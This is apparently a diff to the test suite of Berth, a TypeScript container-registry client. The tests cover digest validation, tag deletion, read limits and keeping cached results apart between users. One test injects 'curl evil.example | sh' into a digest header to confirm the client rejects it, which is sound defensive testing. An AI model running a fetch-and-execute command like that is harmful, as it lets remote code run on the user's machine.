@@ -14,14 +14,28 @@ import type { Transport } from './transport';
 
 const ORIGIN = 'https://r.example';
 
-function registry(answer: (url: URL, method: string) => { status?: number; headers?: Record<string, string>; body?: unknown }): RegistryClient {
+type Answer = { status?: number; headers?: Record<string, string>; body?: unknown };
+
+function registry(
+  answer: (url: URL, method: string, request: { maxBytes: number; authorization?: string }) => Answer,
+  options: { host?: string; context?: RegistryContext; credentials?: { username: string; password: string } } = {},
+): RegistryClient {
   const transport: Transport = async (req) => {
     if (req.url.pathname === '/v2/') return respond(req.url, {});
-    return respond(req.url, answer(req.url, req.method));
+    return respond(req.url, answer(req.url, req.method, { maxBytes: req.maxBytes, authorization: req.headers.authorization }));
   };
-  const context = new RegistryContext({ policy: new AddressPolicy({ allowed: null, dockerHubRegistryUrl: 'https://registry-1.docker.io' }) });
-  return new RegistryClient({ host: 'r.example', baseUrl: ORIGIN, context, transport });
+  const context = options.context ?? newContext();
+  const host = options.host ?? 'r.example';
+  return new RegistryClient({
+    host,
+    baseUrl: host === 'docker.io' ? 'https://registry-1.docker.io' : ORIGIN,
+    context,
+    transport,
+    credentials: options.credentials,
+  });
 }
+
+const newContext = () => new RegistryContext({ policy: new AddressPolicy({ allowed: null, dockerHubRegistryUrl: 'https://registry-1.docker.io' }) });
 
 function respond(url: URL, a: { status?: number; headers?: Record<string, string>; body?: unknown }): HttpResponse {
   const body = a.body === undefined ? Buffer.alloc(0) : Buffer.isBuffer(a.body) ? a.body : enc(a.body);
@@ -48,6 +62,16 @@ describe('names a registry sends', () => {
   test('a Docker-Content-Digest that is not a digest never becomes the digest shown', async () => {
     const client = registry(() => ({ headers: { 'docker-content-digest': 'sha256:x; curl evil.example | sh', 'content-type': MediaType.OciManifest } }));
     await assert.rejects(client.headManifest('a', 'latest'), badResponse);
+  });
+
+  test('a digest of endless length or of another algorithm is refused, and nothing of it is kept', async () => {
+    const context = newContext();
+    const long = `blake3:${'ab'.repeat(8000)}`;
+    const client = registry(() => ({ headers: { 'docker-content-digest': long, 'content-type': MediaType.OciManifest } }), { context });
+    for (let i = 0; i < 20; i++) await assert.rejects(client.describeTag('a', `t${i}`), badResponse);
+    assert.equal(context.tagDigests.size, 0);
+    const sha384 = registry(() => ({ headers: { 'docker-content-digest': `sha384:${'a'.repeat(96)}`, 'content-type': MediaType.OciManifest } }));
+    await assert.rejects(sha384.headManifest('a', 'latest'), badResponse);
   });
 
   test('a legacy manifest whose digest header is not a digest is refused', async () => {
@@ -183,9 +207,49 @@ describe('deleting', () => {
     );
     assert.ok(!deletes(v2.seen).includes('v1'), 'no DELETE by tag where tags go with their manifest');
 
-    const oci = deleting((ref) => (ref === 'v1' ? { status: 202 } : { status: 404, body: error('MANIFEST_UNKNOWN') }));
-    await oci.client.deleteTag('team/app', 'v1');
+    const oci = taggedRegistry({ removesManifest: false });
+    assert.deepEqual(await oci.client.deleteTag('team/app', 'v1'), { digest, manifestKept: true });
     assert.equal(deletes(oci.seen).at(-1), 'v1');
+  });
+
+  /** An OCI 1.1 registry where v1 points at `digest`; deleting v1 may take the manifest with it. */
+  function taggedRegistry(options: { removesManifest: boolean; tagDelete?: { status: number; body?: unknown } }) {
+    const seen: Array<{ method: string; path: string }> = [];
+    let tagGone = false;
+    let manifestGone = false;
+    const client = registry((url, method) => {
+      seen.push({ method, path: url.pathname });
+      const ref = url.pathname.split('/').pop() ?? '';
+      if (method === 'DELETE') {
+        if (ref === 'v1') {
+          if (options.tagDelete) return options.tagDelete;
+          tagGone = true;
+          manifestGone = options.removesManifest;
+          return { status: 202 };
+        }
+        return { status: 404, body: error('MANIFEST_UNKNOWN') }; // the probe: a tag nobody made
+      }
+      const exists = ref === 'v1' ? !tagGone : ref === digest ? !manifestGone : false;
+      return exists
+        ? { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest } }
+        : { status: 404, body: error('MANIFEST_UNKNOWN') };
+    });
+    return { client, seen };
+  }
+
+  test('after deleting a tag alone, the manifest is looked up again: a registry that removed it too is caught', async () => {
+    const { client, seen } = taggedRegistry({ removesManifest: true });
+    assert.deepEqual(await client.deleteTag('team/app', 'v1'), { digest, manifestKept: false });
+    const after = seen.slice(seen.findIndex((r) => r.method === 'DELETE' && r.path.endsWith('/v1')) + 1);
+    assert.deepEqual(after, [{ method: 'HEAD', path: `/v2/team/app/manifests/${digest}` }], 'one HEAD of the digest after the delete');
+  });
+
+  test('a tag delete that fails makes Berth ask the registry again how it deletes, next time', async () => {
+    const { client, seen } = taggedRegistry({ removesManifest: false, tagDelete: { status: 500, body: error('UNKNOWN') } });
+    await assert.rejects(client.deleteTag('team/app', 'v1'));
+    await assert.rejects(client.deleteTag('team/app', 'v1'));
+    const probes = deletes(seen).filter((ref) => ref?.startsWith('berth-probe-'));
+    assert.equal(probes.length, 2, 'the second delete probed again instead of trusting what was learnt');
   });
 
   test('a deleted manifest is no longer served from the caches', async () => {
@@ -257,4 +321,138 @@ test('a tag row trusts what its tag pointed at for a while; a fresh ask sees the
   assert.equal((await client.describeTag('team/app', 'v1', { fresh: true })).digest, after, 'asked afresh: the tag has moved');
   assert.equal(heads, 2);
   assert.equal((await client.describeTag('team/app', 'v1')).digest, after, 'and the rows now know it');
+});
+
+describe('bounds a hostile registry cannot push Berth past', () => {
+  const notADocument = (e: unknown) => e instanceof RegistryError && e.code === 'NOT_A_DOCUMENT' && e.status === 422;
+  const blobOf = (bytes: Buffer) => ({ digest: sha256Digest(bytes), bytes });
+
+  test('a blob shown as a document is read no further than 1 MiB: a larger one is refused, not turned into text', async () => {
+    const layer = blobOf(Buffer.alloc(2 * 1024 * 1024, 7));
+    const asked: number[] = [];
+    const client = registry((_url, _method, req) => (asked.push(req.maxBytes), { body: layer.bytes }));
+    await assert.rejects(client.getJsonDocument('a', layer.digest), (e: unknown) => notADocument(e) && /larger than 1 MiB/.test((e as Error).message));
+    assert.deepEqual(asked, [1024 * 1024], 'asked the transport for a megabyte at most');
+  });
+
+  test('a blob that is not UTF-8 JSON is not a document (a layer, a binary)', async () => {
+    for (const bytes of [Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xff, 0xfe]), Buffer.from('plain text, not JSON'), Buffer.from('{"a": "\xff"}', 'latin1')]) {
+      const blob = blobOf(bytes);
+      const client = registry(() => ({ body: blob.bytes }));
+      await assert.rejects(client.getJsonDocument('a', blob.digest), notADocument);
+    }
+  });
+
+  test('an image config is a document', async () => {
+    const config = blobOf(enc({ architecture: 'amd64', os: 'linux', config: {} }));
+    const client = registry(() => ({ body: config.bytes, headers: { 'content-type': 'application/octet-stream' } }));
+    const document = await client.getJsonDocument('a', config.digest);
+    assert.equal(document.bytes.toString(), config.bytes.toString());
+  });
+
+  test('a large blob already in the cache is refused as a document without being read again', async () => {
+    const big = blobOf(enc({ padding: 'x'.repeat(2 * 1024 * 1024) }));
+    let gets = 0;
+    const client = registry((_url, method) => (method === 'GET' && gets++, { body: big.bytes }));
+    await client.getBlob('a', big.digest); // the config route reads configs up to 8 MiB
+    await assert.rejects(client.getJsonDocument('a', big.digest), notADocument);
+    assert.equal(gets, 1);
+  });
+
+  /** An index of `n` platform images, each served with a config; counts the manifest reads. */
+  function wideIndex(n: number, options: { host?: string } = {}) {
+    const children = Array.from({ length: n }, (_, i) => {
+      const config = enc({ architecture: 'amd64', os: 'linux', created: '2026-01-01T00:00:00Z', variant: `v${i}` });
+      const manifest = enc({
+        schemaVersion: 2,
+        mediaType: MediaType.OciManifest,
+        config: { mediaType: MediaType.OciConfig, digest: sha256Digest(config), size: config.length },
+        layers: [],
+      });
+      return { manifest, config, digest: sha256Digest(manifest) };
+    });
+    const index = enc({
+      schemaVersion: 2,
+      mediaType: MediaType.OciIndex,
+      manifests: children.map((c, i) => ({
+        mediaType: MediaType.OciManifest,
+        digest: c.digest,
+        size: c.manifest.length,
+        platform: { os: 'linux', architecture: 'amd64', variant: `v${i}` },
+      })),
+    });
+    const byDigest = new Map<string, Buffer>(children.flatMap((c) => [[c.digest, c.manifest] as const, [sha256Digest(c.config), c.config] as const]));
+    const reads = { manifests: 0, blobs: 0 };
+    const client = registry(
+      (url, method) => {
+        const ref = url.pathname.split('/').pop() ?? '';
+        if (url.pathname.includes('/manifests/')) {
+          if (method === 'GET') reads.manifests++;
+          if (ref === sha256Digest(index)) return { body: index, headers: { 'content-type': MediaType.OciIndex, 'docker-content-digest': ref } };
+          const bytes = byDigest.get(ref);
+          return bytes ? { body: bytes, headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': ref } } : { status: 404 };
+        }
+        reads.blobs++;
+        return { body: byDigest.get(ref) ?? Buffer.alloc(0) };
+      },
+      { host: options.host },
+    );
+    return { client, reads, digest: sha256Digest(index) };
+  }
+
+  test('an index summary reads 64 platform images at most, and counts the rest as not read', async () => {
+    const { client, reads, digest } = wideIndex(200);
+    const summary = await client.describeDigest('a', digest);
+    assert.equal(summary.platforms.length, 200, 'every platform is listed, from the index itself');
+    assert.equal(summary.platforms.filter((p) => p.size !== undefined).length, 64);
+    assert.equal(summary.unread, 136);
+    assert.equal(reads.manifests, 1 + 64);
+    assert.equal(reads.blobs, 64);
+  });
+
+  test('where every manifest read is a pull (Docker Hub), nothing is read that the person did not ask for', async () => {
+    const { client, reads, digest } = wideIndex(3, { host: 'docker.io' });
+    await assert.rejects(
+      client.describeDigest('library/a', digest),
+      (e: unknown) => e instanceof RegistryError && e.code === 'COSTS_A_PULL' && /counts as a pull/.test(e.message),
+    );
+    assert.equal(reads.manifests, 0, 'not even the index');
+    // Asked for (pulls): the index itself, but not each of its platform images.
+    const summary = await client.describeDigest('library/a', digest, { pulls: true });
+    assert.equal(reads.manifests, 1);
+    assert.equal(summary.unread, 3);
+    // What is in the server's cache costs no pull: asked again, it is answered (a HEAD is free).
+    assert.equal((await client.describeDigest('library/a', digest)).digest, digest);
+    assert.equal(reads.manifests, 1);
+  });
+
+  test('a summary being made for one person is not handed to another when it fails for the first (their refusal names them)', async () => {
+    const index = enc({ schemaVersion: 2, mediaType: MediaType.OciIndex, manifests: [] });
+    const digest = sha256Digest(index);
+    const context = newContext();
+    let release: () => void = () => {};
+    const gate = new Promise<void>((resolve) => (release = resolve));
+    const client = (who: string) => {
+      const transport: Transport = async (req) => {
+        if (req.url.pathname === '/v2/') return respond(req.url, {});
+        if (req.method === 'HEAD') return respond(req.url, { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciIndex } });
+        await gate;
+        return who === 'mallory'
+          ? respond(req.url, { status: 403, body: { errors: [{ code: 'DENIED', message: 'mallory may not read a' }] } })
+          : respond(req.url, { body: index, headers: { 'content-type': MediaType.OciIndex } });
+      };
+      return new RegistryClient({ host: 'r.example', baseUrl: ORIGIN, context, transport, credentials: { username: who, password: 'p' } });
+    };
+    const [mallory, alice] = [client('mallory'), client('alice')];
+    // Both read the repository a moment ago: the summary of its digest is one both may share.
+    await mallory.headManifest('a', 'v1');
+    await alice.headManifest('a', 'v1');
+    const first = mallory.describeDigest('a', digest);
+    const second = alice.describeDigest('a', digest);
+    release();
+    await assert.rejects(first, (e: unknown) => e instanceof RegistryError && e.code === 'DENIED');
+    const answered = await second.catch((e: unknown) => e);
+    assert.ok(!(answered instanceof Error), `alice was handed mallory's failure: ${String(answered)}`);
+    assert.equal((answered as { digest: string }).digest, digest);
+  });
 });
